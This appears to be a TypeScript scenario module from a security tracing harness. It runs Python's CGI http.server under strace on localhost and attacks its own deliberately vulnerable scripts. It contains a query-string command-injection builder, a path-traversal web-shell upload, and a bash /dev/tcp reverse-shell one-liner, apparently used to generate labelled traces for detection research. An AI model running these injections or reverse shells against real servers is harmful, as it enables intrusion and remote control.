// The python-http scenario: `python3 -m http.server --cgi` (Python 3.11's CGIHTTPRequestHandler) serving the
// static site (webSite.ts) and three CGI scripts (pythonHttpCgi.ts) on 127.0.0.1, recorded whole under strace -f
// (the server, its threads, every forked CGI script and what the scripts run), while real clients send a seeded
// mix of static and CGI requests. Attacks: `cgi-command-injection` (a quote in search.py's word runs `id`),
// `webshell-upload` (notes.py's unchecked name overwrites cgi-bin/hello.py with a web shell, which is then called)
// and `reverse-shell` (the same injection starts bash connected to the attacker's listener on 127.0.0.1).

import path from "node:path";
import { HomeostatError } from "../errors.js";
import type { SeededRandom } from "../models/random.js";
import { proofFile, shellProof } from "./attackProof.js";
import { sentence } from "./corpus.js";
import { type HttpAction, type HttpCall, httpMust } from "./httpClients.js";
import { between, pick, planAttack, rngFor, word } from "./planning.js";
import { WEB_SHELL, writeCgi } from "./pythonHttpCgi.js";
import { waitForOutput } from "./readiness.js";
import { openShellListener } from "./reverseShell.js";
import { startTraced } from "./straceRecorder.js";
import { cleanEnv, giveToServerUser, missingTools, sharedTmp, toolPath, toolVersion } from "./tools.js";
import type { AttackReport, RecordedRun, RecordingPlan, RecordingSpec, RecordingTarget, Scenario } from "./types.js";
import { describeHttp, singleClient, staticAction } from "./webRequests.js";
import { writeSite } from "./webSite.js";

export const PYTHON_HTTP_ATTACKS = ["cgi-command-injection", "webshell-upload", "reverse-shell"] as const;

const PROFILE = { ranges: false, folderStatus: 200 };
const SEARCH_WORDS = ["trace", "kernel", "socket", "signal", "memory", "daemon", "nothing", "window"];

/** A CGI request; `notes` is the uploads the plan has made so far. */
function cgiCall(rng: SeededRandom, notes: string[]): HttpCall {
  const kind = pick(rng, ["search", "search", "stats", "upload", "list", "read"] as const);
  switch (kind) {
    case "search":
      return {
        method: "GET",
        path: `/cgi-bin/search.py?q=${pick(rng, SEARCH_WORDS)}`,
        expect: { status: 200, contains: "matches" },
      };
    case "stats": {
      const file = pick(rng, ["docs/manual.txt", "docs/notes-1.txt", `blog/post-${between(rng, 1, 10)}.html`]);
      return {
        method: "GET",
        path: `/cgi-bin/stats.py?file=${encodeURIComponent(file)}`,
        expect: { status: 200, contains: "lines" },
      };
    }
    case "upload": {
      const name = `${word(rng)}-${notes.length + 1}.txt`;
      const body = `${sentence(rng)}\n${sentence(rng)}\n`;
      notes.push(name);
      return {
        method: "POST",
        path: `/cgi-bin/notes.py?name=${name}`,
        body,
        expect: { status: 200, contains: `saved ${body.length}` },
      };
    }
    case "list":
      return { method: "GET", path: "/cgi-bin/notes.py", expect: { status: 200, contains: "notes" } };
    case "read":
      if (notes.length === 0) return cgiCall(rng, notes);
      return {
        method: "GET",
        path: `/cgi-bin/notes.py?name=${pick(rng, notes)}`,
        expect: { status: 200, contains: "." },
      };
  }
}

export function planPythonHttp(spec: RecordingSpec): RecordingPlan<HttpAction> {
  const rng = rngFor(spec);
  const notes: string[] = [];
  const actions = Array.from({ length: spec.actions }, (): HttpAction =>
    rng.next() < 0.22 ? { client: singleClient(rng), calls: [cgiCall(rng, notes)] } : staticAction(rng, PROFILE),
  );
  const attack = planAttack(spec);
  return { seed: spec.seed, actions, ...(attack !== undefined ? { attack } : {}) };
}

/** The query value that closes search.py's quote and runs `command`. */
export function searchInjection(command: string): string {
  return `/cgi-bin/search.py?q=${encodeURIComponent(`x' docs; ${command}; echo '`)}`;
}

async function pythonAttack(kind: string, port: number, workDir: string): Promise<AttackReport> {
  const proof = path.join(sharedTmp(workDir), "proof.txt");
  const listener = kind === "reverse-shell" ? await openShellListener() : undefined;
  const report = (time: number, command: string, evidence: string): AttackReport => ({
    kind,
    time,
    command,
    evidence,
    dataOnly: false,
  });
  try {
    const time = Date.now() / 1000;
    if (kind === "cgi-command-injection") {
      const p = searchInjection(`id > ${proof}`);
      await httpMust(port, { client: "curl", calls: [{ method: "GET", path: p, expect: { status: 200 } }] });
      return report(time, `GET ${p}`, proofFile(proof, kind));
    }
    if (kind === "reverse-shell") {
      const p = searchInjection(`bash -c "bash -i >& /dev/tcp/127.0.0.1/${listener!.port} 0>&1"`);
      await httpMust(port, { client: "curl", calls: [{ method: "GET", path: p, expect: { status: 200 } }] });
      return report(time, `GET ${p}`, shellProof(await listener!.transcript, kind));
    }
    if (kind !== "webshell-upload") throw new HomeostatError("E_USAGE", `unknown python-http attack ${kind}`);
    const upload = `/cgi-bin/notes.py?name=${encodeURIComponent("../cgi-bin/hello.py")}`;
    await httpMust(port, {
      client: "curl",
      calls: [{ method: "POST", path: upload, body: WEB_SHELL, expect: { status: 200, contains: "saved" } }],
    });
    const [r] = await httpMust(port, {
      client: "curl",
      calls: [{ method: "GET", path: "/cgi-bin/hello.py?cmd=id", expect: { status: 200 } }],
    });
    return report(
      time,
      `POST ${upload} (a web shell), then GET /cgi-bin/hello.py?cmd=id`,
      shellProof(r!.body.toString(), kind).replace("reverse shell on 127.0.0.1", "the web shell"),
    );
  } finally {
    listener?.close();
  }
}

async function recordPythonHttp(plan: RecordingPlan<HttpAction>, target: RecordingTarget): Promise<RecordedRun> {
  const root = path.join(target.workDir, "site");
  writeSite(root);
  writeCgi(root);
  // CGI scripts run as nobody when the server runs as root: the site is theirs, as web roots often are.
  giveToServerUser(root);
  const started = Date.now() / 1000;
  const traced = startTraced(target.groups, {
    tracePath: target.tracePath,
    command: [toolPath("python3")!, "-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--cgi"],
    cwd: root,
    env: cleanEnv(target.workDir),
  });
  let attack: AttackReport | undefined;
  try {
    const m = await waitForOutput(traced.child, /Serving HTTP on \S+ port (\d+)/, "python http.server");
    const port = Number(m[1]);
    for (let i = 0; i < plan.actions.length; i++) {
      if (plan.attack?.at === i) attack = await pythonAttack(plan.attack.kind, port, target.workDir);
      await httpMust(port, plan.actions[i]!);
    }
    traced.signalTracees("SIGTERM");
    await traced.finish();
  } finally {
    target.groups.killAll();
  }
  return { started, ended: Date.now() / 1000, ...(attack !== undefined ? { attack } : {}) };
}

export const pythonHttpScenario: Scenario<HttpAction> = {
  name: "python-http",
  attacks: PYTHON_HTTP_ATTACKS,
  dataOnlyAttacks: [],
  defaultActions: 24,
  unavailable: () => missingTools(["python3", "curl", "wget", "bash"]),
  image: () => `python-http.server/${toolVersion(toolPath("python3") ?? "python3", ["--version"], /Python (\S+)/)}`,
  plan: planPythonHttp,
  describe: describeHttp,
  prepare: async () => ({ record: recordPythonHttp, close: async () => {} }),
};
